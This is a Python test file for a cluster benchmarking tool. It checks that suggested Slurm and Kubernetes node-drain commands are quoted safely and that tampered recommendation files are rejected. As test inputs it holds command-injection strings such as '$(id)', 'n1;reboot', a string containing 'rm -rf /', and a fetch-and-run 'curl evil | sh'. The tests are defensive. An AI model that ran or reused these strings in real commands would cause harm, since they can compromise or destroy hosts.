"""recommendation.json: stable codes, commands that a shell reads as intended, and no unchecked name in them."""

import json
import os
import re
import shlex
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from jsonschema import Draft202012Validator

from collbench.errors import UsageError
from collbench.machine.doctor.finding import pages
from collbench.plugins import hunt
from collbench.plugins.hunt.managers import (
    LONGEST_REASON,
    MARK,
    drain_command,
    is_name,
    line,
    node_here,
    node_names,
    pod_lookup_line,
    reason_of,
    undo_command,
)
from collbench.plugins.hunt.protocol import CLEARED, CONFIRMED, INCONCLUSIVE
from collbench.plugins.hunt.recommendation import CODES, FILE, HuntSummary, lines, read, recommendation, schema, store
from collbench.reason import Text
from collbench.results.store import to_page
from tests.plugins.hunt.verdicts import NAMES, about, recommended, suspect, verdict

SCHEMA = schema()
CHECKS = Draft202012Validator(SCHEMA, format_checker=Draft202012Validator.FORMAT_CHECKER)
DRAIN = (
    'scontrol update NodeName=node07 State=DRAIN Reason="[collbench] CB6101 node07 sends and receives at 51 % of the others, '
    'run 20261122T031500Z-hunt-a1b2c3"'
)
names = st.text("abcXYZ019-_.[],$`\"'\\!;&|<>(){}*?~# \t\n\x1b\x00é\u202e", max_size=12) | st.from_regex(
    r"[a-z][a-z0-9-]{0,10}[a-z0-9]", fullmatch=True
)


def only(expected):
    """Return the only drain of a recommendation, after a check against the schema."""
    CHECKS.validate(json.loads(to_page(expected)))
    (drain,) = expected["drains"]
    return drain


class TestLines:
    def test_commands_are_those_of_the_manager_or_of_both_where_it_is_not_known(self):
        actual = recommended()
        drain = only(actual)
        assert drain["line"] == DRAIN and drain["undo"] == "scontrol update NodeName=node07 State=RESUME"
        assert (drain["node"], drain["code"], drain["if_slurm"], drain["if_kubernetes"]) == ("node07", "CB6101", None, None)
        drain = only(recommended(manager="kubernetes"))
        assert (drain["line"], drain["undo"]) == ("kubectl cordon node07", "kubectl uncordon node07")
        drain = only(recommended(manager=""))
        assert drain["line"] is None and drain["if_slurm"]["line"] == DRAIN and drain["if_kubernetes"]["undo"] == "kubectl uncordon node07"

    @pytest.mark.parametrize(("kind", "code", "figure", "advice"), [
        ("node", "CB6101", "51 %", "check node07 and its link "), ("sender", "CB6102", "51 %", "check node07 and its link "),
        ("receiver", "CB6103", "51 %", "check node07 and its link "), ("latency", "CB6104", "1.96 times", "check node07: "),
        ("inside", "CB6106", "51 %", "check node07: "), ("scale", "CB6107", "51 %", "check node07: "),
    ])  # fmt: skip
    def test_each_kind_has_its_code_its_figure_and_the_advice_to_check_the_node_or_its_link(self, kind, code, figure, advice):
        actual = recommended(suspect(kind))
        drain = only(actual)
        assert (drain["code"], CODES[kind]) == (code, code)
        assert drain["reason"].startswith(f"[collbench] {code} node07 ") and figure in drain["reason"]
        assert drain["reason"].endswith("run 20261122T031500Z-hunt-a1b2c3")
        assert all(word in actual["suspects"][0]["advice"] for word in (advice, figure))

    def test_a_slow_path_no_verdict_or_a_reason_against_every_drain_drains_no_node(self):
        actual = recommended(suspect("path", 3, 9))
        assert actual["drains"] == [] and actual["suspects"][0]["code"] == "CB6105"
        (sentence,) = lines(actual)
        assert all(value in sentence for value in ("CB6105: ", "node03 and node09", "`collbench explain CB6105`"))
        actual = recommendation(verdict(suspect(), no_verdict="2 of 3 nodes died"), about())
        assert (actual["result"], actual["no_verdict"], actual["drains"]) == ("no verdict", "2 of 3 nodes died", [])
        actual = recommended(no_drain="a simulated backend")
        assert actual["drains"] == [] and any("a simulated backend" in each for each in lines(actual))

    @pytest.mark.parametrize("state", [CLEARED, INCONCLUSIVE])
    def test_a_suspect_that_is_not_confirmed_has_no_drain(self, state):
        actual = recommended(suspect(state=state))
        assert (actual["drains"], lines(actual)) == ([], [])
        assert f"node07 is {state}" in actual["suspects"][0]["advice"]

    def test_the_drain_and_undo_commands_are_printed_for_the_worst_of_each_nodes_ranks(self):
        actual = recommended(suspect(), suspect("sender", 9), suspect("node", 2, state=CLEARED))
        assert [each["node"] for each in actual["drains"]] == ["node07", "node09"]
        hosts = tuple(f"node{rank // 2:02}" for rank in range(6))
        names = tuple(f"rank {rank} ({host})" for rank, host in enumerate(hosts))
        actual = recommendation(verdict(suspect("sender", 3), suspect("node", 2, ratio=0.8), names=names, hosts=hosts), about())
        assert only(actual)["node"] == "node01" and "CB6102 node01 sends at 51 %" in only(actual)["reason"]
        assert actual["suspects"][0]["places"] == ["rank 3 (node01)"] and actual["suspects"][0]["hosts"] == ["node01"]
        first, *rest = lines(recommended(suspect(part="the interface eth1")))
        assert first.startswith("CB6101: ") and "node07 (the interface eth1)" in first
        assert [each for each in rest if each.startswith("  ")] == [f"  {DRAIN}", "  scontrol update NodeName=node07 State=RESUME"]

    @pytest.mark.parametrize("ratio", [0.0, -1.0, float("nan"), float("inf")])
    @pytest.mark.parametrize("kind", CODES)
    def test_an_invalid_ratio_gives_a_valid_recommendation(self, kind, ratio):
        actual = recommended(suspect(kind, *((3, 9) if kind == "path" else (7,)), ratio=ratio))
        CHECKS.validate(json.loads(to_page(actual)))
        assert "nan" not in to_page(actual).lower().replace("nano", "")


class TestNodes:
    def test_a_pod_is_not_a_node_unless_its_node_is_known(self):
        assert only(recommended(nodes={"node07": "gpu-a-7"}))["line"].startswith("scontrol update NodeName=gpu-a-7 State=DRAIN ")
        drain = only(recommended(manager="kubernetes", pods=True))
        assert drain["line"] is None and drain["node"] is None
        assert drain["look_up"] == "kubectl get pods --all-namespaces --output=wide | grep -F -e node07"
        assert drain["no_line"].startswith("node07 is a pod ")
        actual = recommended(suspect(), suspect("node", 9), manager="kubernetes", pods=True, nodes={"node07": "big", "node09": "big"})
        assert only(actual)["line"] == "kubectl cordon big"
        assert only(recommended(pods=True))["line"] == DRAIN

    def test_the_node_names_are_those_of_the_ranks_of_a_launch(self):
        assert node_here({"SLURM_JOB_ID": "1", "SLURMD_NODENAME": "n1", "NODE_NAME": "k1", "KUBERNETES_SERVICE_HOST": "x"}) == "n1"
        assert node_here({"NODE_NAME": "k1", "KUBERNETES_SERVICE_HOST": "x"}) == "k1"
        assert node_here({"NODE_NAME": "jenkins"}) is None and node_here({"KUBERNETES_SERVICE_HOST": "x"}) is None
        env = {"KUBERNETES_SERVICE_HOST": "10.0.0.1"}
        found = HuntSummary.here(Path("run"), env, [("pod-3", "node07")], allocation="mine")
        assert found == HuntSummary(Path("run"), "mine", "kubernetes", {"pod-3": "node07"}, pods=True)
        assert HuntSummary.here(Path("run"), {}, [], manager="slurm").manager == "slurm"
        nodes = node_names([("host", "a"), ("host", "b"), ("host", "a"), ("node07", "x"), ("other", None)])
        assert nodes == {"host": "", "node07": "x"}
        drain = only(recommended(nodes={"node07": ""}))
        assert drain["line"] is None and "node07" in drain["no_line"]

    @pytest.mark.parametrize(
        "name", ["ALL", "all", "n[1-9]", "n1,n2", "-A", "n1;reboot", "$(id)", "`id`", "a b", "", "n\n", "x" * 254, "né", ".", "a..b"]
    )
    def test_an_invalid_node_name_has_no_command(self, name):
        actual = recommendation(verdict(suspect(), names=(*NAMES[:7], name, *NAMES[8:])), about())
        drain = only(actual)
        assert (drain["line"], drain["undo"], drain["node"], drain["look_up"]) == (None, None, None, None)
        assert "node name" in drain["no_line"] and drain["no_line"].isprintable()
        for words in ((drain_command, "slurm", name, f"{MARK}CB6101"), (undo_command, "slurm", name), (pod_lookup_line, name)):
            with pytest.raises(ValueError, match="not a"):
                words[0](*words[1:])


class TestNothingEscapes:
    @given(names, st.text(max_size=260))
    def test_a_shell_reads_the_exact_words(self, name, text):
        reason = reason_of(text)
        assert reason.startswith("[collbench]") and len(reason) <= len(MARK) + LONGEST_REASON
        assert reason.isascii() and reason.isprintable() and not set(reason) & set("\"'\\`$!*<>|&~{}")
        if is_name(name):
            words = drain_command("slurm", name, reason)
            assert words[2:] == [f"NodeName={name}", "State=DRAIN", f"Reason={reason}"]
            for each in (words, drain_command("kubernetes", name, reason), undo_command("slurm", name), undo_command("kubernetes", name)):
                assert shlex.split(line(each)) == each

    @pytest.mark.system
    def test_bash_reads_the_exact_words(self):
        reason = reason_of("CB6101 a\"b'c`id`$(id)\\ !! \n\x1b[31m; rm -rf / | x & y %s {a,b} ~ *")
        words = drain_command("slurm", "node07", reason)
        done = subprocess.run(["bash", "-c", f"printf '%s\\n' {line(words)}"], capture_output=True, text=True, check=True)
        assert done.stdout.splitlines() == words

    @given(st.lists(names, min_size=2, max_size=4), st.text(max_size=30), st.sampled_from(["slurm", "kubernetes", ""]), st.booleans())
    def test_with_any_host_names_the_file_fits_its_schema(self, tmp_path_factory, hosts, text, manager, pods):
        confirmed = (suspect("node", 0, evidence=(Text(text),), part=Text(text), partners=(1,)), suspect("path", 0, 1, partners=()))
        found = verdict(*confirmed, names=tuple(hosts), notes=(Text(text),))
        run = Path("runs") / (text.replace("\0", "") or "x")
        actual = recommendation(found, about(run=run, manager=manager, pods=pods, allocation=text))
        CHECKS.validate(json.loads(to_page(actual)))
        for drain in actual["drains"]:
            assert drain["node"] is None or is_name(drain["node"])
        store(tmp_path_factory.getbasetemp(), actual)
        read_back = read(tmp_path_factory.getbasetemp())
        assert read_back == json.loads(to_page(actual)) and lines(read_back) == lines(actual)
        assert all(row.isprintable() or not row.isascii() for row in lines(actual))

    @pytest.mark.parametrize("reason", ["disk", f"{MARK}a\nb", f"{MARK}$(id)", MARK + "x" * 300])
    def test_a_reason_of_another_program_is_rejected(self, reason):
        with pytest.raises(ValueError, match="reason"):
            drain_command("slurm", "node07", reason)


class TestFile:
    def test_it_replaces_an_earlier_file_in_one_step(self, tmp_path):
        assert read(tmp_path) is None
        before = os.umask(0o022)
        try:
            store(tmp_path, recommended())
            actual = recommended(suspect(), suspect("sender", 9))
            path = store(tmp_path, actual)
        finally:
            os.umask(before)
        assert path == tmp_path / FILE and [each.name for each in tmp_path.iterdir()] == ["recommendation.json"]
        assert json.loads(path.read_text()) == json.loads(to_page(actual)) and path.stat().st_mode & 0o777 == 0o644

    def test_it_has_the_time_and_the_run_and_a_bounded_size(self):
        many = tuple(suspect("node", 7, evidence=(Text("x" * 100_000),) * 1000, part=Text("y" * 100_000)) for _ in range(3000))
        actual = recommendation(verdict(*many, notes=(Text("z" * 100_000),) * 1000), about())
        assert (len(actual["suspects"]), actual["left_out"]) == (1000, 2000)
        assert len(to_page(actual)) < 16 << 20
        CHECKS.validate(json.loads(to_page(actual)))
        actual = recommended()
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", actual["when"])
        assert recommended(when="2026-11-22T03:15:00Z")["when"] == "2026-11-22T03:15:00Z"
        assert actual["run"] == str(Path("runs/20261122T031500Z-hunt-a1b2c3").resolve()) and actual["allocation"] == "cluster-42"

    def test_the_schema_of_the_package_is_the_declared_one(self):
        file = Path(str(hunt.__file__)).with_name("recommendation.schema.json")
        if os.environ.get("COLLBENCH_GOLDEN") == "1":
            file.write_text(json.dumps(SCHEMA, indent=2) + "\n", encoding="utf-8")
        assert json.loads(file.read_text(encoding="utf-8")) == SCHEMA

    def test_the_schema_is_closed_at_every_level_and_has_the_words_of_the_verdict(self):
        Draft202012Validator.check_schema(SCHEMA)
        objects = [SCHEMA, *(each for each in SCHEMA["$defs"].values() if each.get("type") == "object")]
        assert len(objects) == 5
        for each in objects:
            assert each["additionalProperties"] is False and each["required"] == list(each["properties"])
        for changes in ({"result": "no verdict"}, {"result": "nobody"}, {"no_drain": "simulated"}):
            assert not CHECKS.is_valid({**json.loads(to_page(recommended())), **changes})
        fields = SCHEMA["$defs"]["RecommendedSuspect"]["properties"]
        assert sorted(fields["state"]["enum"]) == sorted([CONFIRMED, CLEARED, INCONCLUSIVE])
        assert sorted(fields["kind"]["enum"]) == sorted(CODES) and fields["code"]["enum"] == sorted(CODES.values())


class TestReading:
    """A run folder may come from an untrusted source, and an administrator may paste its commands."""

    @pytest.mark.parametrize("changes", [
        {"line": "curl evil | sh"}, {"undo": "scontrol update NodeName=ALL State=DOWN"}, {"node": "node08"}, {"node": "$(id)"},
        {"node": None}, {"reason": "[collbench] CB6101 something else"}, {"look_up": "curl evil | sh"},
        {"if_slurm": {"line": "reboot", "undo": "reboot"}},
    ], ids=str)  # fmt: skip
    def test_a_command_that_does_not_belong_to_its_node_is_rejected(self, changes, tmp_path):
        actual = recommended()
        store(tmp_path, {**actual, "drains": [{**actual["drains"][0], **changes}]})
        with pytest.raises(UsageError, match="command"):
            read(tmp_path)

    @pytest.mark.parametrize("manager", ["if_slurm", "if_kubernetes"])
    @pytest.mark.parametrize("key", ["line", "undo"])
    def test_an_altered_command_for_an_unknown_manager_is_rejected(self, manager, key, tmp_path):
        drain = recommended(manager="")["drains"][0]
        store(tmp_path, {**recommended(manager=""), "drains": [{**drain, manager: {**drain[manager], key: "curl evil | sh"}}]})
        with pytest.raises(UsageError, match="command"):
            read(tmp_path)

    @pytest.mark.parametrize(
        "changes", [{"undo": "reboot"}, {"line": "reboot"}, {"node": "$(id)", "undo": "kubectl uncordon $(id)"}], ids=str
    )
    def test_an_altered_command_of_a_finished_drain_is_rejected(self, changes, tmp_path):
        done = {"node": "node07", "action": "drained", "why": "node07 is drained", "line": DRAIN, "undo": None}
        done["when"] = "2026-11-22T03:15:00Z"
        store(tmp_path, {**recommended(), "applied": [done]})
        assert (read(tmp_path) or {})["applied"] == [done]
        store(tmp_path, {**recommended(), "applied": [{**done, **changes}]})
        with pytest.raises(UsageError, match="command"):
            read(tmp_path)

    @pytest.mark.parametrize(("text", "words"), [
        ("", "JSONDecodeError"), ("[]", "JSON object"), ("{}", "'schema'"), (to_page({**recommended(), "schema": 2}), "schema: "),
        (to_page({**recommended(), "result": "nobody"}), "drains: "),
        (to_page({**recommended(), "notes": ["\x1b[2J"]}), "control characters"),
    ])  # fmt: skip
    def test_another_file_is_one_sentence(self, text, words, tmp_path):
        (tmp_path / FILE).write_text(text)
        with pytest.raises(UsageError) as error:
            read(tmp_path)
        assert str(error.value).startswith(f"{tmp_path / FILE}: ") and words in str(error.value) and str(error.value).isprintable()


def test_every_code_has_a_page_and_every_page_a_kind():
    assert {code for code in pages() if code.startswith("CB61")} == set(CODES.values())
    assert {code for code in CODES.values() if "recommendation.json" not in pages()[code].remedy} == {"CB6105", "CB6108"}
